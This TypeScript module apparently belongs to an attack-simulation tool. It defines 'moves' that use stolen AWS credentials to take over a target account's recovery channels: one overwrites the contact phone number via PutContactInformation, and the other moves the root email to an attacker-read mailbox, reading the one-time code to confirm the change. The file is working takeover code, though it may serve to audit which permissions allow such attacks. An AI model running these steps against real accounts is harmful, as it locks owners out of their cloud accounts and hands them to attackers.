import {
  AcceptPrimaryEmailUpdateCommand,
  PutContactInformationCommand,
  StartPrimaryEmailUpdateCommand,
} from "@aws-sdk/client-account";
import { type Move, ownPhone, type Thief } from "./thief.ts";

const record = {
  FullName: "Nobody",
  AddressLine1: "1 Road",
  City: "Berlin",
  PostalCode: "10115",
  CountryCode: "DE",
  PhoneNumber: ownPhone,
};

const changePhone: Move = {
  name: "change the phone",
  play: async (thief) => {
    if (thief.numbers.includes(ownPhone)) return false;
    for (const { arn, account, keys } of thief.held) {
      const client = thief.clientsFor(keys).account;
      const target = account === thief.target ? {} : { AccountId: thief.target };
      const done = await thief.call("change the phone", `account:PutContactInformation as ${arn}`, () =>
        client.send(new PutContactInformationCommand({ ...target, ContactInformation: record })),
      );
      if (done === null) continue;
      thief.numbers.push(ownPhone);
      return thief.note(`changed the phone as ${arn}`);
    }
    return false;
  },
};

/** To every mailbox the attacker reads, his own first: a grant may be limited to domains. */
const moveMail: Move = {
  name: "move the root mail",
  play: async (thief) => {
    for (const address of thief.mailboxes) {
      if (thief.mailboxes.includes(thief.email())) return false;
      if (await moveTo(thief, address)) return thief.note(`moved the root mail to ${address}`);
    }
    return false;
  },
};

async function moveTo(thief: Thief, PrimaryEmail: string): Promise<boolean> {
  const move = "move the root mail";
  const AccountId = thief.target;
  const outsiders = thief.held.filter(({ account }) => account !== thief.target);
  let isAsked = false;
  for (const { arn, keys } of outsiders) {
    const client = thief.clientsFor(keys).account;
    const started = await thief.call(move, `account:StartPrimaryEmailUpdate as ${arn}`, () =>
      client.send(new StartPrimaryEmailUpdateCommand({ AccountId, PrimaryEmail })),
    );
    isAsked ||= started !== null;
  }
  if (!isAsked) return false;
  const inbox = thief.passed(move, await thief.person.mailbox(PrimaryEmail));
  const Otp = inbox?.messages.findLast(({ otp }) => otp !== undefined)?.otp;
  if (Otp === undefined) return thief.refuse(move, "mailbox", "no code arrived");
  for (const { arn, keys } of outsiders) {
    const client = thief.clientsFor(keys).account;
    const accepted = await thief.call(move, `account:AcceptPrimaryEmailUpdate as ${arn}`, () =>
      client.send(new AcceptPrimaryEmailUpdateCommand({ AccountId, PrimaryEmail, Otp })),
    );
    if (accepted !== null) return true;
  }
  return false;
}

/** What the Account Management API lets somebody do to the ways of recovery. */
export const contactMoves: readonly Move[] = [changePhone, moveMail];
